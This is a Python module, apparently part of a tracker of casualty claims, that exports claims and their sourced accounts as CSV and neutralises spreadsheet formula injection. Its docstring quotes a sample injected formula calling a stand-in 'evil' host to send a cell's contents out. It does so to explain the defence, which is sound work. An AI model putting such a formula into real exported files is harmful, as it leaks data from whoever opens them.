"""Claims with their accounts as CSV: one row per account, safe to open in a spreadsheet.

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is a formula to Excel and LibreOffice: a quote such as
``=HYPERLINK("http://evil/?"&A1)`` would run when an editor opens the file.
Such cells get a leading apostrophe, which spreadsheets show as text.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from tracker.models import Account, Claim
from tracker.vocabularies import AirwarsGrade, label_of

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

HEADER = [
    "claim_id", "claim_text", "event_id", "event_name", "aspect", "count_min", "count_max",
    "count_approximate", "count_min_exclusive", "count_max_exclusive", "unit", "interval",
    "status", "suggested_status", "independent_sources",
    "archived", "account_id", "source_id", "source_name", "source_root", "stance",
    "intermediary", "quote", "quote_start", "quote_end", "document_id", "document_title",
    "document_url", "said_on", "event_summary", "event_suggested_grade",
]  # fmt: skip


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _Line:
    """A file-like object that hands back what csv.writer writes, for streaming."""

    def write(self, value: str) -> str:
        return value


def _claim_cells(claim: Claim) -> list[Any]:
    return [
        claim.pk, claim.text, claim.event_id or "", claim.event.name if claim.event else "",
        claim.aspect, claim.count_min if claim.count_min is not None else "",
        claim.count_max if claim.count_max is not None else "", claim.count_approximate,
        claim.count_min_exclusive, claim.count_max_exclusive, claim.unit,
        claim.interval_display, claim.status, claim.suggested_status, claim.independent_sources,
        claim.is_archived,
    ]  # fmt: skip


def _account_cells(account: Account | None) -> list[Any]:
    if account is None:
        return [""] * 13
    source, document = account.source, account.document
    root = source.root.name if source.root else source.name
    return [
        account.pk, source.pk, source.name, root, account.stance,
        account.intermediary.name if account.intermediary else "", account.quote,
        "" if account.quote_start is None else account.quote_start,
        "" if account.quote_end is None else account.quote_end,
        document.pk if document else "", document.title if document else "",
        document.url if document else "", account.said_on.isoformat() if account.said_on else "",
    ]  # fmt: skip


def _event_cells(claim: Claim) -> list[Any]:
    """The event's summary as stored by its last comparison: the lines the event detail shows."""
    if claim.event is None:
        return ["", ""]
    summary = claim.event.summary or {}
    grade = summary.get("grade", "")
    return [
        " ".join(line["text"] for line in summary.get("lines", [])),
        label_of(AirwarsGrade, grade) if grade else "",
    ]


def csv_lines(claims: Iterable[Claim]) -> Iterator[str]:
    """The header, then a row per account (a claim without accounts gets one row)."""
    writer = csv.writer(_Line())
    yield writer.writerow(HEADER)
    for claim in claims:
        event_cells = _event_cells(claim)
        for account in claim.api_accounts or [None]:
            cells = _claim_cells(claim) + _account_cells(account) + event_cells
            yield writer.writerow([safe_cell(v) for v in cells])
